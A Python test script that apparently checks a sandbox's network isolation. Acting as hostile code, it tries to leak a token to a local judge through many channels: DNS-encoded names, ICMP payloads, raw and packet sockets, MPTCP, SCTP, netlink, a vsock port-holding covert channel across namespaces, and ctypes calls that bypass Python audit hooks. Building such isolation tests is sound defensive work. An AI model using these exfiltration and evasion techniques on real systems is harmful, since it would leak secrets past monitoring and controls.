"""Attempts to leak a token over the network: one function a way out, stdlib and ctypes only.

Run as hostile code: `python -I network.py NAME TOKEN JSON`. The JSON says where the judge listens: a real attacker
would have to find that out, this one is told everything. A function that is refused raises; it never decides anything.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import socket
import struct
import sys
import time
from typing import Any

LIMIT_S = 2.0  # no single call waits longer: refused is refused
IPPROTO_MPTCP = 262
LOOPBACK_FRAME = bytes(12)  # both Ethernet addresses are zero on lo


def tcp(token: bytes, at: dict[str, Any]) -> None:
    """Connect over TCP to the host's loopback."""
    with socket.create_connection(("127.0.0.1", at["tcp"]), LIMIT_S) as s:
        s.sendall(token)


def udp(token: bytes, at: dict[str, Any]) -> None:
    """One datagram to the host's loopback."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, ("127.0.0.1", at["udp"]))


def udp_lite(token: bytes, at: dict[str, Any]) -> None:
    """One datagram of the protocol that filters forget."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE).sendto(
        token, ("127.0.0.1", at["udp_lite"])
    )


def dns(token: bytes, at: dict[str, Any]) -> None:
    """A DNS question whose name is the token: what leaves through a resolver."""
    name = b"".join(bytes([len(part)]) + part for part in (token, b"example", b"org")) + b"\0"
    question = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack(">2H", 1, 1)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ("127.0.0.1", at["dns"]))


def host_address(token: bytes, at: dict[str, Any]) -> None:
    """One datagram to an address of the host that is not loopback."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (at["host"], at["host_address"]))


def tcp6(token: bytes, at: dict[str, Any]) -> None:
    """Connect over TCP and IPv6."""
    with socket.create_connection(("::1", at["tcp6"]), LIMIT_S) as s:
        s.sendall(token)


def udp6(token: bytes, at: dict[str, Any]) -> None:
    """One datagram over IPv6."""
    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, ("::1", at["udp6"]))


def fast_open(token: bytes, at: dict[str, Any]) -> None:
    """TCP Fast Open: data leaves without a call of connect()."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # blocking: without a cookie data waits for the handshake
    s.sendto(token, socket.MSG_FASTOPEN, ("127.0.0.1", at["fast_open"]))
    s.close()


def mptcp(token: bytes, at: dict[str, Any]) -> None:
    """Multipath TCP: another protocol number than a filter of TCP looks for."""
    s = _stream(socket.AF_INET, IPPROTO_MPTCP)
    s.connect(("127.0.0.1", at["mptcp"]))
    s.sendall(token)
    s.close()


def sctp(token: bytes, at: dict[str, Any]) -> None:
    """Connect over SCTP."""
    s = _stream(socket.AF_INET, socket.IPPROTO_SCTP)
    s.connect(("127.0.0.1", at["sctp"]))
    s.sendall(token)
    s.close()


def raw_ip(token: bytes, at: dict[str, Any]) -> None:
    """A raw IP packet of a protocol number for experiments (253, RFC 3692)."""
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(token, ("127.0.0.1", 0))


def ping(token: bytes, at: dict[str, Any]) -> None:
    """An ICMP echo whose payload is the token."""
    head = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
    packet = head + token
    total = sum(struct.unpack(f">{len(packet) // 2}H", packet))
    total = (total & 0xFFFF) + (total >> 16)
    echo = packet[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + packet[4:]
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).sendto(echo, ("127.0.0.1", 0))


def packet(token: bytes, at: dict[str, Any]) -> None:
    """An Ethernet frame put on the host's loopback, below IP."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.sendto(LOOPBACK_FRAME + struct.pack(">H", at["ether_type"]) + token, ("lo", at["ether_type"]))


def netlink(token: bytes, at: dict[str, Any]) -> None:
    """A message between programs over netlink (NETLINK_USERSOCK)."""
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_USERSOCK)
    s.bind((0, 0))
    s.sendto(struct.pack("=IHHII", 16 + len(token), 16, 0, 1, 0) + token, (at["netlink"], 0))


def vsock(token: bytes, at: dict[str, Any]) -> None:
    """Hold one port of AF_VSOCK a bit: its table of ports is one for all network namespaces (Linux up to 6.18)."""
    bits = [(byte >> k) & 1 for byte in bytes.fromhex(token.decode()) for k in range(8)]
    held = []
    for k, bit in enumerate(bits):
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        _bind_soon(s, at["vsock"] + 2 * k + bit)
        held.append(s)
    time.sleep(at["hold_s"])


def by_ctypes(token: bytes, at: dict[str, Any]) -> None:
    """The system calls of a socket through ctypes, past every audit hook of the interpreter."""
    libc = ctypes.CDLL(None, use_errno=True)
    sys.addaudithook(_no_sockets)
    fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
    address = struct.pack("=H", socket.AF_INET) + struct.pack(">H4s8x", at["by_ctypes"], socket.inet_aton("127.0.0.1"))
    if fd < 0 or libc.sendto(fd, token, len(token), 0, address, len(address)) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def _no_sockets(event: str, args: tuple[object, ...]) -> None:
    if event.startswith("socket."):
        raise PermissionError("the audit hook saw it")


def _bind_soon(s: socket.socket, port: int) -> None:
    until = time.monotonic() + LIMIT_S
    while True:
        try:
            return s.bind((socket.VMADDR_CID_ANY, port))
        except OSError as e:
            # the judge, who looks whether a port is free, has it for a moment
            if e.errno != errno.EADDRINUSE or time.monotonic() > until:
                raise


def _stream(family: int, protocol: int) -> socket.socket:
    s = socket.socket(family, socket.SOCK_STREAM, protocol)
    s.settimeout(LIMIT_S)
    return s


if __name__ == "__main__":
    try:
        globals()[sys.argv[1]](sys.argv[2].encode(), json.loads(sys.argv[3]))
    except OSError as e:
        sys.exit(f"refused: {e.strerror}")  # a traceback could name the token
